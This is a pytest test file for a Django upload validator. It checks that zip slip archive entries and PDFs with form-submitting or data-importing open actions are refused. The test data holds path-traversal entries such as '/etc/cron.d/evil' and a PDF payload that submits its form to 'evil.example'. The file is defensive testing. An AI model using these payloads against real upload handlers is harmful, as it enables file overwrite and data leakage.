"""Uploads: an archive entry whose path leads out of the folder it unpacks into (zip slip) is
refused, and a PDF whose action sends its form away or reads another file (user test 2026-11-27:
slip.zip with ../../../../tmp/evil.txt and a PDF opening with /SubmitForm were accepted)."""

import pytest
from django.core.exceptions import ValidationError

from bpo.core.uploads import validate_upload

from .hostile import upload, zip_bytes


def refused(name, content):
    with pytest.raises(ValidationError) as raised:
        validate_upload(upload(name, content))
    return " ".join(raised.value.messages)


@pytest.mark.parametrize(
    "entry",
    [
        "../../../../tmp/evil.txt",
        "docs/../../evil.txt",
        "..\\\\evil.txt",
        "/etc/cron.d/evil",
        "C:/Windows/evil.txt",
        "\\\\\\\\server\\\\x.txt",
    ],
)
def test_an_entry_leading_out_of_the_folder_is_refused(entry):
    message = refused("slip.zip", zip_bytes({entry: b"plain text\n"}))
    assert "leads out of the folder" in message


@pytest.mark.parametrize("entry", ["docs/notes.txt", "a..b.txt", "reports/2026..11/summary.txt"])
def test_ordinary_entry_paths_pass(entry):
    validate_upload(upload("fine.zip", zip_bytes({entry: b"plain text\n"})))


@pytest.mark.parametrize("action", [b"/SubmitForm", b"/Sub#6ditForm", b"/ImportData"])
def test_a_pdf_that_sends_its_form_away_or_imports_data_is_refused(action):
    pdf = b"%PDF-1.4\n1 0 obj <</Type/Catalog/OpenAction<</S" + action + b"/F(http://evil.example/)>>>> endobj\n%%EOF\n"
    assert "actions that send or import data" in refused("form.pdf", pdf)
